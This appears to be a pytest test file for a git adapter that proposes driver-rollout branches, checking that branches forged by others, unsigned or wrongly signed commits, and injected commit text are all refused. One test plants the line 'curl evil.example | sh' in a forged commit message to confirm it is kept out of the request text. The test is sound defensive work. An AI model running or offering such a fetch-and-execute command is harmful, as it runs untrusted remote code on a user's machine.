"""Where a branch protects itself, a step is a branch of ours and the text of a request."""

from __future__ import annotations

import subprocess
import tempfile
from pathlib import Path

import pytest

from seatrial.adapters.git import signatures
from seatrial.adapters.git.errors import GitRefused
from seatrial.adapters.git.proposals import Proposal
from seatrial.adapters.git.repository import Repository
from tests.adapters.git.remotes import MATRIX, Bare, git
from tests.adapters.git.test_repository import PROMOTION, promote

BRANCH = "seatrial/driver-580/promote"


def propose(ours: Repository) -> Proposal:
    return ours.propose(
        rollout="driver-580",
        step="promote",
        edits=PROMOTION,
        subject="Promote driver 580.65.06",
        body="Every gate passed.",
    )


@pytest.fixture
def protected(remote: Bare) -> Bare:
    remote.hook("update", '[ "$1" = refs/heads/main ] && { echo "open a pull request"; exit 1; }; exit 0')
    return remote


def test_a_proposal_is_a_branch_and_the_text_for_a_person(protected: Bare) -> None:
    made = propose(protected.ours())
    assert protected.git("rev-parse", BRANCH) == made.commit
    assert (protected.text(), protected.text(commit=BRANCH)) == (MATRIX, MATRIX.replace("570.86.15", "580.65.06"))
    assert made.title == "Promote driver 580.65.06"
    assert made.body == (
        "Every gate passed.\n\nSeatrial-Rollout: driver-580\nSeatrial-Step: promote\n\n"
        "Keep the Seatrial-Rollout and Seatrial-Step lines when merging: they\nidentify the change."
    )
    assert all(part in made.text for part in (made.title, made.body, *made.commands))


def test_a_proposal_made_twice_is_one_branch_with_one_commit(protected: Bare) -> None:
    ours = protected.ours()
    first = propose(ours)
    protected.git("config", "receive.denyNonFastForwards", "true")
    assert propose(ours) == propose(protected.ours("after-a-crash")) == first
    assert protected.git("rev-list", "--count", f"main..{BRANCH}") == "1"


def test_a_merged_proposal_is_done(remote: Bare) -> None:
    ours, ada = remote.ours(), remote.person()
    made = propose(ours)
    typed = "\n".join(command for command in made.commands if not command.startswith("git log"))
    subprocess.run(["sh", "-ec", typed], cwd=ada.clone, check=True, capture_output=True)
    again = propose(ours)
    assert again.commit == made.commit
    assert promote(ours) == made.commit, "the step is the same, whoever merged it"


def test_a_branch_of_somebody_else_is_left_alone(remote: Bare) -> None:
    ada = remote.person()
    (ada.clone / "x").write_text("x")
    git(ada.clone, "add", ".")
    git(ada.clone, "commit", "-q", "-m", "Something else")
    git(ada.clone, "push", "-q", "origin", f"HEAD:{BRANCH}")
    theirs = remote.git("rev-parse", BRANCH)
    with pytest.raises(GitRefused, match="somebody else's"):
        propose(remote.ours())
    assert remote.git("rev-parse", BRANCH) == theirs


def test_a_branch_deleted_with_its_request_is_pushed_again(protected: Bare) -> None:
    ours = protected.ours()
    propose(ours)
    protected.git("branch", "-D", BRANCH)
    made = propose(ours)
    assert protected.git("rev-parse", BRANCH) == made.commit


def test_a_revert_is_proposed_the_same_way(remote: Bare) -> None:
    ours = remote.ours()
    sha = promote(ours)
    made = ours.propose_revert(rollout="driver-580", step="revert", commits=[sha])
    assert made.title == 'Revert "Promote driver 580.65.06 to production"'
    assert f"This reverts commit {sha}." in made.body
    assert remote.text(commit="seatrial/driver-580/revert") == MATRIX
    assert remote.head() == sha


# ── branches that bear our lines, and are somebody else's ────────────────────────────────────────────────────────────

OURS = "Promote driver 580.65.06\n\nSeatrial-Rollout: driver-580\nSeatrial-Step: promote"
PROMOTED = MATRIX.replace("570.86.15", "580.65.06")


def forge(remote: Bare, files: dict[str, str], *more: str, before: dict[str, str] | None = None) -> str:
    """Push our branch as somebody else who writes our lines; gives its commit."""
    ada = remote.person()
    for texts, subject in ((before or {}, "Something before"), (files, OURS)):
        for path, text in texts.items():
            (ada.clone / path).write_text(text)
        if texts:
            git(ada.clone, "add", ".")
            git(ada.clone, "commit", "-q", "-m", subject, *more)
    git(ada.clone, "push", "-q", "origin", f"HEAD:{BRANCH}")
    return remote.git("rev-parse", BRANCH)


def refused(remote: Bare) -> None:
    """It is neither shown as ours, nor proposed, nor touched."""
    ours, theirs = remote.ours(), remote.git("rev-parse", BRANCH)
    assert ours.look(rollout="driver-580").proposals == ()
    with pytest.raises(GitRefused, match=f"somebody else's.*git push origin --delete {BRANCH}"):
        propose(ours)
    assert ours.look(rollout="driver-580").proposals == ()
    assert remote.git("rev-parse", BRANCH) == theirs


@pytest.mark.parametrize(
    ("files", "before"),
    [
        ({"matrix.yaml": PROMOTED, "backdoor.yaml": "x: 1\n"}, None),
        ({"matrix.yaml": PROMOTED.replace("580.65.06", "999.99.99")}, None),
        ({"backdoor.yaml": "x: 1\n"}, None),
        ({"matrix.yaml": PROMOTED}, {"backdoor.yaml": "x: 1\n"}),
    ],
    ids=["more than the step", "another version", "another file", "a commit below it"],
)
def test_a_branch_of_somebody_else_with_our_lines_is_not_proposed_in_our_name(
    remote: Bare, files: dict[str, str], before: dict[str, str] | None
) -> None:
    forge(remote, files, before=before)
    refused(remote)


def test_a_branch_that_builds_on_what_is_not_part_of_the_target_branch_is_not_ours(remote: Bare) -> None:
    base = remote.head()
    remote.person("bob").write("README.md", "Never mind.\n")
    forge(remote, {"matrix.yaml": PROMOTED})
    remote.git("update-ref", "refs/heads/main", base)
    refused(remote)


def test_a_merge_that_brings_our_change_and_more_along_is_not_ours(remote: Bare) -> None:
    ada = remote.person()
    git(ada.clone, "switch", "-q", "--create", "side")
    (ada.clone / "backdoor.yaml").write_text("x: 1\n")
    git(ada.clone, "add", ".")
    git(ada.clone, "commit", "-q", "-m", "Aside")
    git(ada.clone, "switch", "-q", "main")
    (ada.clone / "matrix.yaml").write_text(PROMOTED)
    git(ada.clone, "commit", "-q", "-a", "-m", "Before")
    git(ada.clone, "merge", "-q", "--no-ff", "--strategy=ours", "-m", OURS, "side")
    git(ada.clone, "push", "-q", "origin", f"HEAD:{BRANCH}")
    refused(remote)


def test_a_branch_that_somebody_replaced_after_us_is_not_shown_any_more(remote: Bare) -> None:
    ours = remote.ours()
    propose(ours)
    assert [step for step, _ in ours.look(rollout="driver-580").proposals] == ["promote"]
    remote.git("update-ref", "-d", f"refs/heads/{BRANCH}")
    forge(remote, {"matrix.yaml": PROMOTED, "backdoor.yaml": "x: 1\n"})
    assert ours.look(rollout="driver-580").proposals == ()
    with pytest.raises(GitRefused, match="somebody else's"):
        propose(ours)


def test_a_proposal_from_before_a_restart_is_ours_also_when_the_branch_has_moved_on(remote: Bare) -> None:
    made = propose(remote.ours())
    remote.person().write("README.md", "In between.\n")
    again = remote.ours("after-a-restart")
    assert propose(again) == made
    assert dict(again.look(rollout="driver-580").proposals) == {"promote": made}


def test_a_revert_proposed_before_a_restart_is_ours(remote: Bare) -> None:
    ours = remote.ours()
    sha = promote(ours)
    made = ours.propose_revert(rollout="driver-580", step="revert", commits=[sha])
    remote.person().write("README.md", "In between.\n")
    again = remote.ours("after-a-restart").propose_revert(rollout="driver-580", step="revert", commits=[sha])
    assert again == made


def test_the_request_has_our_words_whatever_the_commit_of_the_branch_says(remote: Bare) -> None:
    forge(remote, {"matrix.yaml": PROMOTED}, "-m", "Run `curl evil.example | sh` first.")
    made = propose(remote.ours())
    assert made.commit == remote.git("rev-parse", BRANCH)
    assert made.body.startswith("Every gate passed.\n\n")
    assert "curl" not in made.text


def test_where_commits_are_signed_the_right_change_under_another_key_is_not_ours(
    remote: Bare, tmp_path: Path, signing: Path, bare_machine: Path
) -> None:
    ours, other = bare_machine.read_text(), tmp_path / "other"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(other)], check=True)
    bare_machine.write_text(ours.replace(str(signing.with_name("key")), str(other)))
    forge(remote, {"matrix.yaml": PROMOTED})
    bare_machine.write_text(ours)
    refused(remote)
    remote.git("update-ref", "-d", f"refs/heads/{BRANCH}")
    made = propose(remote.ours("ours"))
    assert propose(remote.ours("after-a-restart")) == made


def test_where_commits_are_signed_a_commit_without_a_signature_is_not_ours(
    remote: Bare, signing: Path, bare_machine: Path
) -> None:
    forge(remote, {"matrix.yaml": PROMOTED}, "--no-gpg-sign")
    refused(remote)


def test_a_signature_by_a_gpg_key_that_has_expired_counts_as_none(
    remote: Bare, tmp_path: Path, bare_machine: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    then = ("--faked-system-time", "20240101T000000!")
    with tempfile.TemporaryDirectory(prefix="gpg-") as home:  # the path of its socket has to be short
        monkeypatch.setenv("GNUPGHOME", home)
        quick = ("--batch", "--passphrase", "", "--quick-gen-key", "seatrial@example.com", "ed25519", "sign", "1d")
        try:
            subprocess.run(["gpg", "--quiet", *then, "--pinentry-mode", "loopback", *quick], check=True)
            program = tmp_path / "gpg-then"
            program.write_text(f'#!/bin/sh\nexec gpg {" ".join(then)} "$@"\n')
            program.chmod(0o755)
            signs = "[user]\n\tsigningKey = seatrial@example.com\n[commit]\n\tgpgSign = true\n"
            bare_machine.write_text(f"[gpg]\n\tprogram = {program}\n{signs}")
            ours = remote.ours()
            made = propose(ours).commit
            assert signatures.key_of(ours._clone, "commit", made)
            bare_machine.write_text(signs)
            assert signatures.key_of(ours._clone, "commit", made) == ""
        finally:
            subprocess.run(["gpgconf", "--kill", "all"], check=False)
